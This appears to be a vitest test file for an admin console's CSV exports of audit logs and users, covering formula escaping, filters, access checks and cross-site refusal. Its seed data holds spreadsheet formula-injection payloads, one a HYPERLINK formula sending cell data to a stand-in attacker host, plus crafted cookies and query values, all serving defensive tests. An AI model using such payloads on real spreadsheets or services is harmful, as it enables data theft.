import { hashPassword } from "@inkwell/auth";
import { schema } from "@inkwell/db";
import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { startTestServer, TEST_ADMIN, type TestServer } from "./testing/index.ts";

let server: TestServer;
let adminToken: string;
let moderatorToken: string;

/** Cells a spreadsheet would run as a formula, and text that breaks naive CSV writers. */
const HOSTILE = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  "+1+2",
  "-2+3",
  "@SUM(A1:A2)",
  "\tindented",
  'she said "hi", then left',
  "line one\r\nline two\nline three",
  "comma, separated; values",
  'trailing quote"',
  "ünïcödé – 漢字 – 🙂",
];

/** What a safe export holds for a value: the value itself, or it prefixed with `'` when it would run as a formula. */
const escaped = (value: string) => (/^[=+\-@\t\r]/.test(value) ? `'${value}` : value);

async function login(email: string, password: string): Promise<string> {
  const answer = await fetch(`${server.url}/api/users/login`, {
    method: "POST",
    headers: { "content-type": "application/json" },
    body: JSON.stringify({ user: { email, password } }),
  });
  expect(answer.status).toBe(200);
  return ((await answer.json()) as { user: { token: string } }).user.token;
}

/** A download as the console starts it: the session cookie, from the console's own page. */
const download = (path: string, headers: Record<string, string> = {}, token = adminToken) =>
  fetch(`${server.url}${path}`, {
    headers: { cookie: `inkwell_session=${token}`, "sec-fetch-site": "same-origin", ...headers },
  });

/** The file as written, byte-order mark included (`Response.text()` would drop it). */
async function textOf(answer: Response): Promise<string> {
  return new TextDecoder("utf-8", { ignoreBOM: true }).decode(await answer.arrayBuffer());
}

function rowsOf(text: string): Record<string, string>[] {
  expect(text.startsWith("\uFEFF")).toBe(true);
  return parse(text, { bom: true, columns: true, relax_column_count: false }) as Record<string, string>[];
}

const USERS = 230;
const EVENTS = 260;

beforeAll(async () => {
  server = await startTestServer();
  adminToken = await login(TEST_ADMIN.email, TEST_ADMIN.password);
  const passwordHash = await hashPassword("moderator password 1");
  const { db } = server.database;
  await db.insert(schema.users).values({
    username: "moderator",
    email: "moderator@example.com",
    passwordHash,
    role: "moderator",
  });
  moderatorToken = await login("moderator@example.com", "moderator password 1");
  await db.insert(schema.users).values(
    Array.from({ length: USERS }, (_, i) => ({
      username: `export_user_${i}`,
      email: `export_user_${i}@example.com`,
      passwordHash,
      bio: HOSTILE[i % HOSTILE.length],
      createdAt: new Date(Date.UTC(2024, 0, 1, 0, 0, i % 7)),
    })),
  );
  await db.insert(schema.users).values(
    Array.from({ length: 40 }, (_, i) => ({
      username: `bystander_${i}`,
      email: `by_${i}@example.com`,
      passwordHash,
    })),
  );
  await db.insert(schema.auditEvents).values(
    Array.from({ length: EVENTS }, (_, i) => ({
      action: i % 2 === 0 ? "export.probe.even" : "export.probe.odd",
      actorUsername: HOSTILE[i % HOSTILE.length],
      actorId: 900_000 + i,
      targetType: "article",
      targetId: String(i),
      userAgent: HOSTILE[(i + 3) % HOSTILE.length],
      details: { outcome: "success", note: HOSTILE[(i + 5) % HOSTILE.length] },
      // Many share a time: the keyset walk must still give each exactly once.
      createdAt: new Date(Date.UTC(2024, 5, 1, 0, 0, i % 11)),
    })),
  );
});
afterAll(() => server?.close());

describe("CSV export of the audit log", () => {
  it("streams every event of the filtered set, more than one page, each once, newest first", async () => {
    const answer = await download("/export/audit.csv?action=PROBE.EVEN");
    expect(answer.status).toBe(200);
    expect(answer.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(answer.headers.get("content-disposition")).toMatch(/^attachment; filename="audit-log-[0-9T-]+\.csv"$/);
    expect(answer.headers.get("cache-control")).toBe("no-store");
    expect(answer.headers.get("content-length")).toBeNull();
    const rows = rowsOf(await textOf(answer));

    const expected = await server.database.sql<{ id: string }[]>`
      select id from audit_events where action ilike '%probe.even%' order by created_at desc, id desc`;
    expect(expected.length).toBe(EVENTS / 2);
    expect(rows.map((row) => row.id)).toEqual(expected.map((row) => String(row.id)));
    expect(new Set(rows.map((row) => row.action))).toEqual(new Set(["export.probe.even"]));
  });

  it("applies every filter of the page: actor name, time range, target", async () => {
    const from = new Date(Date.UTC(2024, 5, 1, 0, 0, 3)).toISOString();
    const to = new Date(Date.UTC(2024, 5, 1, 0, 0, 5)).toISOString();
    const rows = rowsOf(
      await textOf(
        await download(`/export/audit.csv?action=export.probe&actor=SAID&from=${from}&to=${to}&targetType=article`),
      ),
    );
    const expected = await server.database.sql<{ id: string }[]>`
      select id from audit_events
      where action like 'export.probe%' and actor_username ilike '%said%'
        and created_at between ${from} and ${to}
      order by created_at desc, id desc`;
    expect(expected.length).toBeGreaterThan(0);
    expect(rows.map((row) => row.id)).toEqual(expected.map((row) => String(row.id)));
  });

  it("writes hostile values so that they read back exactly, formulas made inert", async () => {
    const rows = rowsOf(await textOf(await download("/export/audit.csv?action=export.probe")));
    expect(rows).toHaveLength(EVENTS);
    const byTarget = new Map(rows.map((row) => [Number(row.target_id), row]));
    for (let i = 0; i < EVENTS; i++) {
      const row = byTarget.get(i);
      expect(row?.actor_username).toBe(escaped(HOSTILE[i % HOSTILE.length] ?? ""));
      expect(row?.user_agent).toBe(escaped(HOSTILE[(i + 3) % HOSTILE.length] ?? ""));
      // JSON starts with `{`: left as it is, and it parses back to the details.
      expect(JSON.parse(row?.details ?? "")).toEqual({ outcome: "success", note: HOSTILE[(i + 5) % HOSTILE.length] });
    }
    for (const row of rows) {
      for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    }
  });
});

describe("CSV export of users", () => {
  it("exports the filtered users in the page's order, across pages, with hostile bios escaped", async () => {
    const answer = await download(
      "/export/users.csv?search=export_user_&sort=username&direction=asc&page=3&pageSize=10",
    );
    expect(answer.status).toBe(200);
    const rows = rowsOf(await textOf(answer));
    // page and pageSize are the page's view, not the export's: every match is there.
    const expected = Array.from({ length: USERS }, (_, i) => `export_user_${i}`).sort();
    expect(rows.map((row) => row.username)).toEqual(expected);
    for (const row of rows) {
      const i = Number(row.username?.replace("export_user_", ""));
      expect(row.bio).toBe(escaped(HOSTILE[i % HOSTILE.length] ?? ""));
      expect(row.email).toBe(`export_user_${i}@example.com`);
      expect(row.role).toBe("user");
    }
    expect(Object.keys(rows[0] ?? {})).not.toContain("password_hash");
  });

  it("gives the header alone when nothing matches", async () => {
    const text = await textOf(await download("/export/users.csv?search=nobody-has-this-name"));
    expect(rowsOf(text)).toEqual([]);
    expect(text.split("\r\n")[0]).toBe(
      "\uFEFFid,username,email,role,status,email_verified,two_factor,bio,image,created_at,updated_at",
    );
  });
});

describe("who may export", () => {
  it("refuses a caller without a session (401), and one without the page's permission (403)", async () => {
    const anonymous = await fetch(`${server.url}/export/audit.csv`);
    expect(anonymous.status).toBe(401);
    expect(((await anonymous.json()) as { code: string }).code).toBe("UNAUTHORIZED");

    // A moderator sees users but not the audit log.
    const audit = await download("/export/audit.csv", {}, moderatorToken);
    expect(audit.status).toBe(403);
    expect(((await audit.json()) as { error: string }).error).toContain('"audit:read"');
    expect((await download("/export/users.csv?search=export_user_1", {}, moderatorToken)).status).toBe(200);

    const revoked = await download("/export/users.csv", {}, "not-a-session-token");
    expect(revoked.status).toBe(401);
  });

  it("accepts an Authorization header like /trpc, and refuses a download another site starts", async () => {
    const bearer = await fetch(`${server.url}/export/users.csv?search=export_user_1`, {
      headers: { authorization: `Bearer ${adminToken}` },
    });
    expect(bearer.status).toBe(200);
    const crossSite = await download("/export/users.csv", { "sec-fetch-site": "cross-site" });
    expect(crossSite.status).toBe(403);
    expect(((await crossSite.json()) as { error: string }).error).toMatch(/Cross-site/);
  });

  it("refuses what another site or a sibling host starts, by Sec-Fetch-Site or Origin; lets the operator's own URL through", async () => {
    const status = async (headers: Record<string, string>) => {
      const answer = await fetch(`${server.url}/export/users.csv?search=export_user_1`, {
        headers: { cookie: `inkwell_session=${adminToken}`, ...headers },
      });
      if (answer.status === 403) expect(((await answer.json()) as { error: string }).error).toMatch(/Cross-site/);
      else await answer.arrayBuffer();
      return answer.status;
    };
    // A sibling host's <img> carries the Lax cookie: same-site is not same-origin.
    expect(await status({ "sec-fetch-site": "same-site" })).toBe(403);
    expect(await status({ origin: "https://evil.example" })).toBe(403);
    expect(await status({ origin: "null" })).toBe(403);
    expect(await status({ "sec-fetch-site": "junk" })).toBe(403);
    expect(await status({ "sec-fetch-site": "same-site", origin: "https://evil.example" })).toBe(403);
    // The console's own link, a bookmark or typed URL, and a client sending neither header.
    expect(await status({ "sec-fetch-site": "same-origin" })).toBe(200);
    expect(await status({ "sec-fetch-site": "none" })).toBe(200);
    expect(await status({ origin: server.url })).toBe(200);
    expect(await status({})).toBe(200);
    expect(await status({ "sec-fetch-site": "" })).toBe(200);
  });

  it("answers an empty, malformed or huge cookie with 401, never a 500 nor a file", async () => {
    for (const cookie of [
      "",
      "inkwell_session=",
      "inkwell_session",
      "inkwell_session=%E0%A4%A",
      "inkwell_session=a%00b",
      `inkwell_session=${"x".repeat(4000)}`,
      ";;;==;",
      `inkwell_session=${adminToken.slice(0, -1)}`,
    ]) {
      const answer = await fetch(`${server.url}/export/users.csv`, {
        headers: { cookie, "sec-fetch-site": "same-origin" },
      });
      expect(answer.status, JSON.stringify(cookie)).toBe(401);
      expect(((await answer.json()) as { code: string }).code).toBe("UNAUTHORIZED");
    }
  });

  it("answers crafted filter values with 400: huge, NUL, repeated, of the wrong type", async () => {
    for (const query of [
      `search=${"a".repeat(10_000)}`,
      "actor=a%00b",
      "from=2024-01-01T00:00:00Z%00",
      "role=admin&role=user",
      "status=1",
      "from=1e400",
      "to=-271821-04-20T00:00:00Z",
      "sort=__proto__",
    ]) {
      const path = query.startsWith("actor") || query.startsWith("from") || query.startsWith("to") ? "audit" : "users";
      const answer = await download(`/export/${path}.csv?${query}`);
      expect(answer.status, query.slice(0, 60)).toBe(400);
      expect(answer.headers.get("content-type")).toMatch(/^application\/json/);
      await answer.arrayBuffer();
    }
  });

  it("answers bad filters with 400 and the procedure's message, unknown exports with 404", async () => {
    const badRole = await download("/export/users.csv?role=emperor");
    expect(badRole.status).toBe(400);
    expect(((await badRole.json()) as { fieldErrors?: Record<string, string[]> }).fieldErrors).toHaveProperty("role");
    const backwards = await download("/export/audit.csv?from=2024-02-01T00:00:00Z&to=2024-01-01T00:00:00Z");
    expect(backwards.status).toBe(400);
    expect((await download(`/export/audit.csv?actor=${"x".repeat(41)}`)).status).toBe(400);
    expect((await download("/export/audit.csv?from=yesterday")).status).toBe(400);
    expect((await download("/export/sessions.csv")).status).toBe(404);
    expect((await download("/export/users.json")).status).toBe(404);
    expect((await download("/export/__proto__.csv")).status).toBe(404);
    // NUL cannot be stored: refused like any input holding it.
    expect((await download("/export/users.csv?search=a%00b")).status).toBe(400);
  });

  it("ignores paging params a caller adds: the export sets its own", async () => {
    const rows = rowsOf(await textOf(await download("/export/audit.csv?action=probe.odd&limit=1&cursor=junk")));
    expect(rows).toHaveLength(EVENTS / 2);
  });
});
